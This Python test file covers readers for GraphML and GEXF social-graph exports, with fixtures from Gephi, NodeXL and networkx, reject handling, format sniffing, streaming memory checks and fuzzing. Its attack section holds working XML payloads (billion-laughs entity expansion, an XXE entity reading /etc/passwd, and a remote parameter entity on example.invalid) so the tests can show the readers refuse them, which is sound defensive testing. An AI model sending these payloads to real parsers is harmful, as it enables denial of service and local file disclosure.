"""GraphML and GEXF readers: Gephi, NodeXL and networkx shapes, attacks, fuzzing (no database)."""

from __future__ import annotations

import gzip
import tempfile
import tracemalloc
from pathlib import Path
from xml.sax.saxutils import quoteattr

import networkx as nx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from graph.errors import LoadError
from graph.models import AmplificationRow, PostRow, UserRow
from loaders.formats.edgelist import EdgeListReader, SnapActivityReader
from loaders.formats.gexf import GexfReader
from loaders.formats.graphml import GraphFileReader, GraphMLReader, parse_time
from loaders.records import Reader, Record, Reject
from tests.support.record_files import events, rejects, users, write

FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
JULY_4 = 1341392400000  # 2012-07-04T09:00:00Z


GEPHI_GRAPHML = """<?xml version="1.0" encoding="UTF-8"?>
<graphml xmlns="http://graphml.graphdrawing.org/xmlns">
  <key attr.name="label" attr.type="string" for="node" id="label"/>
  <key attr.name="Edge Label" attr.type="string" for="edge" id="edgelabel"/>
  <key attr.name="weight" attr.type="double" for="edge" id="weight"/>
  <key attr.name="r" attr.type="int" for="node" id="r"/>
  <key attr.name="x" attr.type="float" for="node" id="x"/>
  <key attr.name="followers_count" attr.type="long" for="node" id="followers_count"/>
  <key attr.name="is_brand" attr.type="boolean" for="node" id="is_brand">
    <default>false</default>
  </key>
  <key attr.name="Interaction" attr.type="string" for="edge" id="Interaction"/>
  <key attr.name="timestamp" attr.type="string" for="edge" id="timestamp"/>
  <graph edgedefault="directed">
    <node id="12">
      <data key="label">nasa</data>
      <data key="r">153</data>
      <data key="x">-12.5</data>
      <data key="followers_count">48000000</data>
      <data key="is_brand">true</data>
    </node>
    <node id="13">
      <data key="label">Ada Lovelace</data>
      <data key="followers_count">n/a</data>
    </node>
    <node id="14"/>
    <edge id="0" source="13" target="12">
      <data key="edgelabel"></data>
      <data key="weight">3.0</data>
      <data key="Interaction">retweet</data>
      <data key="timestamp">2012-07-04T09:00:00Z</data>
    </edge>
    <edge id="1" source="14" target="12">
      <data key="Interaction">Mentions</data>
      <data key="timestamp">1341392400</data>
    </edge>
    <edge id="2" source="14" target="13">
      <data key="weight">0.25</data>
    </edge>
  </graph>
</graphml>
"""


@pytest.mark.parametrize("name", ["gephi.graphml", "gephi.graphml.gz"])
def test_graphml_gephi_export(tmp_path: Path, name: str) -> None:
    reader = GraphMLReader(write(tmp_path, name, GEPHI_GRAPHML), kind="quote", timestamp=5)
    records = list(reader.records())
    assert users(records) == [
        UserRow("12", "nasa", "nasa", followers=48000000, is_brand=True),
        UserRow("13", "13", "Ada Lovelace"),  # a label with spaces is a name, not a handle
        UserRow("14", "14"),
    ]
    assert [(e.id, e.amplifier_id, e.author_id, e.kind, e.created_at) for e in events(records)] == [
        ("13>12@0#0", "13", "12", "retweet", JULY_4),
        ("13>12@0#1", "13", "12", "retweet", JULY_4),
        ("13>12@0#2", "13", "12", "retweet", JULY_4),
        ("14>12@1#0", "14", "12", "mention", JULY_4),
        ("14>13@2#0", "14", "13", "quote", 5),  # no kind: the option; no time: the option
    ]
    assert rejects(records) == []
    assert reader.rows_read == 6


NODEXL_GRAPHML = """<?xml version="1.0" encoding="UTF-8"?>
<graphml xmlns="http://graphml.graphdrawing.org/xmlns">
  <key id="V-Name" for="node" attr.name="Name" attr.type="string"/>
  <key id="V-Followers" for="node" attr.name="Followers" attr.type="string"/>
  <key id="V-Description" for="node" attr.name="Description" attr.type="string"/>
  <key id="V-Web" for="node" attr.name="URL" attr.type="string"/>
  <key id="E-Relationship" for="edge" attr.name="Relationship" attr.type="string"/>
  <key id="E-Relationship Date (UTC)" for="edge" attr.name="Relationship Date (UTC)"
       attr.type="string"/>
  <graph edgedefault="undirected">
    <node id="cern">
      <data key="V-Name">CERN</data>
      <data key="V-Followers">2100000</data>
      <data key="V-Description">Accelerating science &amp; more</data>
      <data key="V-Web">https://home.cern</data>
    </node>
    <node id="zoë_ünal"><data key="V-Name">Zoë Ünal</data><data key="V-Followers">12</data></node>
    <edge source="zoë_ünal" target="cern">
      <data key="E-Relationship">Retweet</data>
      <data key="E-Relationship Date (UTC)">2012-07-04 09:00:00</data>
    </edge>
    <edge source="zoë_ünal" target="cern">
      <data key="E-Relationship">Retweet</data>
      <data key="E-Relationship Date (UTC)">2012-07-04 09:00:00</data>
    </edge>
    <edge source="zoë_ünal" target="cern">
      <data key="E-Relationship">Replies to</data>
      <data key="E-Relationship Date (UTC)">2012-07-04T10:00:00+01:00</data>
    </edge>
    <edge source="cern" target="cern"><data key="E-Relationship">Tweet</data></edge>
  </graph>
</graphml>
"""


def test_graphml_nodexl_export(tmp_path: Path) -> None:
    records = list(
        GraphMLReader(write(tmp_path, "x.graphml", NODEXL_GRAPHML), timestamp=0).records()
    )
    assert users(records) == [
        UserRow(
            "cern", "CERN", "CERN", 2100000, "Accelerating science & more", "https://home.cern"
        ),
        UserRow("zoë_ünal", "zoë_ünal", "Zoë Ünal", 12),
    ]
    found = [(e.id, e.kind, e.created_at) for e in events(records)]
    assert found == [
        ("zoë_ünal>cern@e0#0", "retweet", JULY_4),  # parallel edges keep apart by position
        ("zoë_ünal>cern@e1#0", "retweet", JULY_4),
        ("zoë_ünal>cern@e2#0", "reply", JULY_4),
        ("cern>cern@e3#0", "retweet", 0),  # "Tweet" is not an amplification kind: the option
    ]


def test_graphml_direction_nested_graphs_and_key_defaults(tmp_path: Path) -> None:
    text = """<graphml xmlns="http://graphml.graphdrawing.org/xmlns">
      <key id="k" for="all" attr.name="kind"><default>reply</default></key>
      <graph edgedefault="directed">
        <node id="group"><graph id="inner"><node id="a"/><node id="b"/></graph></node>
        <edge source="a" target="b"/>
        <edge source="b" target="a"><data key="k">like</data></edge>
      </graph></graphml>"""
    reader = GraphMLReader(write(tmp_path, "g.graphml", text), direction="author-amplifier")
    records = list(reader.records())
    assert [u.id for u in users(records)] == ["a", "b", "group"]
    assert [(e.amplifier_id, e.author_id, e.kind) for e in events(records)] == [
        ("b", "a", "reply"),
        ("a", "b", "like"),
    ]


def test_graph_rows_that_break_the_rules_are_rejected_and_reading_goes_on(tmp_path: Path) -> None:
    text = """<graphml xmlns="http://graphml.graphdrawing.org/xmlns">
<key id="w" for="edge" attr.name="weight"/><key id="t" for="edge" attr.name="time"/>
<graph>
<node/>
<node id="a"/>
<edge source="a"/>
<edge source="a" target="b"><data key="w">-1</data></edge>
<edge source="a" target="b"><data key="w">heavy</data></edge>
<edge source="a" target="b"><data key="t">yesterday</data></edge>
<edge source="a" target="b"><data key="t">99999-01-01</data></edge>
<edge source="a" target="b"><data key="w">2</data></edge>
</graph></graphml>"""
    path = write(tmp_path, "g.graphml", text)
    reader = GraphMLReader(path, timestamp=0, max_events_per_edge=1)
    records = list(reader.records())
    assert rejects(records) == [
        (4, "id"),
        (6, "target"),
        (7, "weight"),
        (8, "weight"),
        (9, "timestamp"),
        (10, "timestamp"),
    ]
    assert [e.id for e in events(records)] == ["a>b@e5#0"]  # weight 2 capped at 1 event
    assert reader.rows_read == 8
    first = next(r for r in records if isinstance(r, Reject)).error
    assert str(first) == f"{path}:4: id: a node without an id"


GEXF_13 = """<?xml version='1.0' encoding='UTF-8'?>
<gexf xmlns="http://gexf.net/1.3" xmlns:viz="http://gexf.net/1.3/viz"
      xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" version="1.3">
  <meta lastmodifieddate="2024-03-01"><creator>Gephi 0.10.1</creator><description/></meta>
  <graph defaultedgetype="directed" mode="static">
    <attributes class="node" mode="static">
      <attribute id="followers" title="Followers Count" type="integer"/>
      <attribute id="brand" title="is_brand" type="boolean"><default>true</default></attribute>
      <attribute id="sn" title="screen_name" type="string"/>
    </attributes>
    <attributes class="edge" mode="static">
      <attribute id="interaction" title="Interaction" type="string"/>
    </attributes>
    <nodes>
      <node id="n1" label="NASA">
        <attvalues>
          <attvalue for="followers" value="1000"/>
          <attvalue for="sn" value="@nasa"/>
        </attvalues>
        <viz:size value="10.0"/><viz:position x="1.0" y="2.0"/><viz:color r="1" g="2" b="3"/>
      </node>
      <node id="n2" label="ann">
        <attvalues><attvalue for="brand" value="false"/></attvalues>
      </node>
      <node id="n3"/>
    </nodes>
    <edges>
      <edge id="0" source="n2" target="n1" weight="2.0" type="directed">
        <attvalues><attvalue for="interaction" value="retweet"/></attvalues>
      </edge>
      <edge id="1" source="n3" target="n1" kind="mention" start="2012-07-04T09:00:00"/>
      <edge id="2" source="n3" target="n2" type="undirected">
        <spells><spell start="1341392400" end="1341400000"/></spells>
      </edge>
    </edges>
  </graph>
</gexf>
"""


@pytest.mark.parametrize("name", ["gephi.gexf", "gephi.gexf.gz"])
def test_gexf_13_gephi_export(tmp_path: Path, name: str) -> None:
    reader = GexfReader(write(tmp_path, name, GEXF_13), timestamp=3)
    records = list(reader.records())
    assert users(records) == [
        UserRow("n1", "nasa", "NASA", followers=1000, is_brand=True),  # the default
        UserRow("n2", "ann", "ann"),
        UserRow("n3", "n3", is_brand=True),
    ]
    assert [(e.id, e.kind, e.created_at) for e in events(records)] == [
        ("n2>n1@0#0", "retweet", 3),
        ("n2>n1@0#1", "retweet", 3),
        ("n3>n1@1#0", "mention", JULY_4),
        ("n3>n2@2#0", "retweet", JULY_4),  # the first spell's start
    ]
    assert reader.rows_read == 6


@pytest.mark.parametrize(
    "namespace",
    ["http://www.gexf.net/1.1draft", "http://www.gexf.net/1.2draft", "http://gexf.net/1.2", ""],
)
def test_gexf_older_namespaces_and_attvalue_ids(tmp_path: Path, namespace: str) -> None:
    xmlns = f' xmlns="{namespace}"' if namespace else ""
    text = f"""<gexf{xmlns} version="1.2"><graph defaultedgetype="undirected">
      <attributes class="edge"><attribute id="0" title="type"/></attributes>
      <nodes><node id="a" label="alice"/><node id="b" label="bob"/></nodes>
      <edges><edge source="a" target="b"><attvalues><attvalue id="0" value="Quotes"/>
      </attvalues></edge></edges></graph></gexf>"""
    records = list(GexfReader(write(tmp_path, "g.gexf", text), timestamp=0).records())
    assert [u.handle for u in users(records)] == ["alice", "bob"]
    assert [(e.id, e.kind) for e in events(records)] == [("a>b@e0#0", "quote")]


@pytest.mark.parametrize(("reader", "suffix"), [(GraphMLReader, "graphml"), (GexfReader, "gexf")])
def test_files_written_by_networkx(
    tmp_path: Path, reader: type[GraphFileReader], suffix: str
) -> None:
    graph = nx.MultiDiGraph()
    graph.add_node("a", label="alice", followers_count=10, is_brand=True)
    graph.add_node("b", screen_name="bob")
    graph.add_edge("a", "b", weight=2, kind="quote", timestamp="2012-07-04T09:00:00Z")
    graph.add_edge("a", "b", interaction="mention")
    path = tmp_path / f"g.{suffix}"
    (nx.write_graphml if suffix == "graphml" else nx.write_gexf)(graph, path)
    records = list(reader(path, timestamp=0).records())
    assert users(records) == [
        UserRow("a", "alice", "alice", followers=10, is_brand=True),
        UserRow("b", "bob", "b" if suffix == "gexf" else ""),  # GEXF writes label="b"
    ]
    assert [(e.id, e.kind, e.created_at) for e in events(records)] == [
        ("a>b@0#0", "quote", JULY_4),
        ("a>b@0#1", "quote", JULY_4),
        ("a>b@1#0", "mention", 0),
    ]


# --- attacks and broken files ------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<{root}><graph><node id="&lol9;"/></graph></{root}>
"""
EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE r [
<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<{root}><graph><node id="&xxe;"/></graph></{root}>
"""
PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE r [
<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<{root}><graph><node id="a"/></graph></{root}>
"""


@pytest.mark.parametrize("attack", [BILLION_LAUGHS, EXTERNAL, PARAMETER])
@pytest.mark.parametrize(("reader", "root"), [(GraphMLReader, "graphml"), (GexfReader, "gexf")])
def test_entity_declarations_are_refused(
    tmp_path: Path, attack: str, reader: type[GraphFileReader], root: str
) -> None:
    path = write(tmp_path, f"evil.{root}", attack.format(root=root))
    with pytest.raises(LoadError) as caught:
        list(reader(path, timestamp=0).records())
    assert (caught.value.line, caught.value.field) == (3, "xml")
    assert "entity" in caught.value.reason


def test_a_plain_doctype_is_harmless_and_not_fetched(tmp_path: Path) -> None:
    text = '<!DOCTYPE graphml SYSTEM "http://example.invalid/graphml.dtd">\n'
    text += '<graphml><graph><node id="a"/></graph></graphml>'
    assert users(GraphMLReader(write(tmp_path, "g.graphml", text)).records()) == [UserRow("a", "a")]


def test_malformed_and_truncated_files_raise_load_error(tmp_path: Path) -> None:
    path = write(tmp_path, "g.graphml", '<graphml><graph>\n<node id="a"/>\n<node id="b">\n</graph>')
    reader = GraphMLReader(path, timestamp=0)
    seen: list[Record] = []
    with pytest.raises(LoadError) as caught:
        seen.extend(reader.records())
    assert (caught.value.line, caught.value.field) == (4, "xml")
    assert seen == [UserRow("a", "a")]  # what came before the break was read
    truncated = tmp_path / "g.gexf.gz"
    truncated.write_bytes(gzip.compress(GEXF_13.encode())[:-20])
    with pytest.raises(LoadError):
        list(GexfReader(truncated, timestamp=0).records())
    with pytest.raises(LoadError):
        list(GexfReader(tmp_path / "missing.gexf").records())


# --- sniffing ----------------------------------------------------------------------------------

SNIFF = {
    "graphml": (GEPHI_GRAPHML.encode(), "graphml"),
    "nodexl": (NODEXL_GRAPHML.encode(), "graphml"),
    "gexf": (GEXF_13.encode(), "gexf"),
    "gexf utf-16": (GEXF_13.replace("UTF-8", "UTF-16").encode("utf-16"), "gexf"),
    "snap": (b"1 2 1341100972 RT\n", "snap"),
    "edges": (b"1 2 1\n", "edgelist"),
}


@pytest.mark.parametrize("case", sorted(SNIFF))
def test_sniffers_do_not_claim_each_others_files(case: str) -> None:
    head, owner = SNIFF[case]
    formats: list[type[Reader]] = [GraphMLReader, GexfReader, SnapActivityReader, EdgeListReader]
    assert [r.format for r in formats if r.sniff(Path("x"), head[:1024])] == [owner]


def test_parse_time_forms() -> None:
    assert parse_time("2012-07-04") == 1341360000000
    assert parse_time("2012-07-04T11:00:00+02:00") == JULY_4
    assert parse_time("1341392400000") == parse_time("1341392400.0") == JULY_4
    for bad in ("", "nan", "-1", "July 4th", "1e30"):
        with pytest.raises(ValueError):
            parse_time(bad)


def _streaming_peak(path: Path, edges: int) -> int:
    """tracemalloc's peak while reading a GraphML file of ``edges`` weighted edges."""
    lines = "".join(
        f'<edge id="e{i}" source="u{i % 997}" target="u{i % 13}"><data key="w">2</data></edge>\n'
        for i in range(edges)
    )
    path.write_text(
        f'<graphml><key id="w" for="edge" attr.name="weight"/><graph>\n{lines}</graph></graphml>'
    )
    tracemalloc.start()
    try:
        assert sum(1 for _ in GraphMLReader(path, timestamp=0).records()) == 2 * edges
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_streaming_memory_does_not_grow_with_the_file(tmp_path: Path) -> None:
    """Four times the edges, the same peak: one element at a time, never the tree."""
    small = _streaming_peak(tmp_path / "small.graphml", 1_500)
    large = _streaming_peak(tmp_path / "large.graphml", 6_000)
    assert large < small * 1.1 + 64 * 1024


# --- fuzzing -----------------------------------------------------------------------------------

VALUE = st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc", "Cn"]), max_size=12)


@st.composite
def graphml_documents(draw: st.DrawFn) -> str:
    """Well-formed GraphML with arbitrary ids and values."""
    nodes = draw(st.lists(VALUE, max_size=4))
    keys = ["label", "followers", "is_brand", "weight", "kind", "time", "Relationship"]
    body = "".join(f'<key id="k{i}" attr.name={quoteattr(k)}/>' for i, k in enumerate(keys))
    body += "<graph>"
    for node in nodes:
        data = draw(st.lists(st.tuples(st.integers(0, 6), VALUE), max_size=3))
        values = "".join(f'<data key="k{k}">{quoteattr(v)[1:-1]}</data>' for k, v in data)
        body += f"<node id={quoteattr(node)}>{values}</node>"
    for source, target, data in draw(
        st.lists(
            st.tuples(VALUE, VALUE, st.lists(st.tuples(st.integers(0, 6), VALUE), max_size=3)),
            max_size=4,
        )
    ):
        values = "".join(f'<data key="k{k}">{quoteattr(v)[1:-1]}</data>' for k, v in data)
        body += f"<edge source={quoteattr(source)} target={quoteattr(target)}>{values}</edge>"
    return f"<graphml>{body}</graph></graphml>"


def _drain(reader: GraphFileReader) -> None:
    try:
        for record in reader.records():
            assert isinstance(record, UserRow | PostRow | AmplificationRow | Reject)
    except LoadError:
        pass


@FUZZ
@given(
    data=st.one_of(st.binary(max_size=300), graphml_documents().map(str.encode)), gz=st.booleans()
)
def test_fuzz_graph_readers_never_crash(data: bytes, gz: bool) -> None:
    with tempfile.TemporaryDirectory() as directory:
        path = write(Path(directory), "f.xml.gz" if gz else "f.xml", data)
        for reader in (GraphMLReader, GexfReader):
            _drain(reader(path, timestamp=0))
            assert isinstance(reader.sniff(path, data[:1024]), bool)


@FUZZ
@given(document=graphml_documents())
def test_fuzz_graphml_values_become_records_or_rejects(document: str) -> None:
    with tempfile.TemporaryDirectory() as directory:
        reader = GraphMLReader(write(Path(directory), "f.graphml", document), timestamp=0)
        records = list(reader.records())  # well formed, so never a LoadError
    nodes, edges = document.count("<node "), document.count("<edge ")
    assert reader.rows_read == nodes + edges
    assert len(users(records)) + sum(field == "id" for _, field in rejects(records)) == nodes
    for event in events(records):
        assert event.kind in ("retweet", "quote", "reply", "mention", "share", "like")
        assert event.created_at >= 0
